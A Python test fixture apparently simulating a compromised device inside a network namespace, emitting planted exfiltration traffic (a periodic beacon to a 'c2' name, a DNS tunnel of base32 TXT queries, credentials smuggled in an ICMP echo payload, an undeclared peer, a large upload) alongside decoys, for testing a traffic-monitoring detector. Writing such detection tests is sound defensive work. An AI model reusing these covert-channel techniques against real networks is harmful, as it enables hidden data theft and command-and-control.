#!/usr/bin/env python3
"""The 'device' of tests/watch_netns_test.sh, run in the device namespace (192.0.2.10).

Planted (must be found): an undeclared TCP peer (192.0.2.30:8080), a declared name whose answer
had expired (short.vendor.example, TTL 1, used 2.5 s later), an address named only in an answer
the device did not ask for (192.0.2.21), DNS over TLS to 192.0.2.53:853, a beacon
(192.0.2.40:8443 every second, constant size), a DNS tunnel (TXT queries with long base32
labels under tunnel.example), data in an ICMP echo payload, an 80 KiB upload.
Decoys (must not be found): api.vendor.example reached through a CNAME chain, a declared
NTP-like poll every second, twelve plain names under pool.vendor.example, a ping with the
iputils payload pattern, an 80 KiB download from the declared peer.
"""
import base64
import os
import random
import socket
import struct
import threading
import time

RESOLVER = ("192.0.2.1", 53)
BEACON_PERIOD = 1.0
BEACON_COUNT = 12


def encode_name(name):
    return b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0"


def query(name, qtype=1):
    """Asks the resolver; returns the A addresses of the answer (after a CNAME chain)."""
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(2)
    txid = random.randrange(65536)
    s.sendto(struct.pack("!HHHHHH", txid, 0x0100, 1, 0, 0, 0) + encode_name(name) +
             struct.pack("!HH", qtype, 1), RESOLVER)
    addrs = []
    try:
        msg, _ = s.recvfrom(4096)
        ancount = struct.unpack("!H", msg[6:8])[0]
        i = 12
        while msg[i]:
            i += 1 + msg[i]
        i += 5
        for _ in range(ancount):
            while msg[i] and msg[i] < 0xC0:
                i += 1 + msg[i]
            i += 2 if msg[i] >= 0xC0 else 1
            rtype, _, _, rdlen = struct.unpack("!HHIH", msg[i:i + 10])
            i += 10
            if rtype == 1:
                addrs.append(socket.inet_ntoa(msg[i:i + 4]))
            i += rdlen
    except socket.timeout:
        pass
    s.close()
    return addrs


def tcp(ip, port, payload, read=True):
    with socket.create_connection((ip, port), timeout=5) as c:
        c.sendall(payload)
        c.shutdown(socket.SHUT_WR)
        got = 0
        while read:
            chunk = c.recv(65536)
            if not chunk:
                break
            got += len(chunk)
        return got


def beacon(start):
    ip = query("c2.beacon.net")[0]  # the name the image hard-codes (the audit's finding)
    for i in range(BEACON_COUNT):
        time.sleep(max(0, start + i * BEACON_PERIOD - time.time()))
        tcp(ip, 8443, b"B" * 64)


def ntp_poll(start):
    for i in range(BEACON_COUNT):
        time.sleep(max(0, start + 0.37 + i * BEACON_PERIOD - time.time()))
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)  # a new port each poll, as SNTP
        s.settimeout(1)
        s.sendto(b"\x23" + b"\0" * 47, ("192.0.2.50", 123))
        try:
            s.recvfrom(512)
        except socket.timeout:
            pass
        s.close()


def checksum(b):
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    s = (s >> 16) + (s & 0xFFFF)
    s += s >> 16
    return ~s & 0xFFFF


def ping(ip, payload, seq):
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    s.settimeout(1)
    head = struct.pack("!BBHHH", 8, 0, 0, 0x4242, seq)
    head = struct.pack("!BBHHH", 8, 0, checksum(head + payload), 0x4242, seq)
    s.sendto(head + payload, (ip, 0))
    try:
        s.recvfrom(2048)
    except socket.timeout:
        pass
    s.close()


def main():
    random.seed(8520)
    start = time.time() + 0.2
    threads = [threading.Thread(target=beacon, args=(start,)),
               threading.Thread(target=ntp_poll, args=(start,))]
    for t in threads:
        t.start()
    for n in range(1, 13):  # decoy: many plain names under one parent
        query("node-%d.pool.vendor.example" % n)
    addrs = query("api.vendor.example")  # decoy: declared, through a CNAME chain
    assert addrs == ["192.0.2.20"], addrs
    tcp(addrs[0], 443, b"HELLO " * 30)
    tcp(addrs[0], 443, b"GET /firmware.bin\r\n")  # decoy: a large download
    tcp(addrs[0], 443, os.urandom(80 * 1024))      # planted: a large upload
    short = query("short.vendor.example")          # planted: used after its TTL
    time.sleep(2.5)
    tcp(short[0], 443, b"LATE " * 20)
    query("ready.vendor.example")                  # the server adds an unsolicited answer
    time.sleep(0.2)
    tcp("192.0.2.21", 443, b"SPOOFED " * 10)        # planted: named only by that answer
    tcp("192.0.2.30", 8080, b"X" * 100)             # planted: undeclared peer
    tcp("192.0.2.53", 853, b"\x16\x03\x01" + b"T" * 47)  # planted: DNS over TLS
    for i in range(15):                            # planted: DNS tunnel
        label = base64.b32encode(os.urandom(30)).decode().rstrip("=").lower()
        query(label + ".t%d.tunnel.example" % i, qtype=16)
    ping("192.0.2.60", b"user=admin;pass=hunter2;host=core-router-1;", 1)  # planted
    stamp = struct.pack("!QQ", int(time.time()), 0)
    ping("192.0.2.60", stamp + bytes(range(16, 56)), 2)  # decoy: iputils pattern
    for t in threads:
        t.join()


if __name__ == "__main__":
    main()
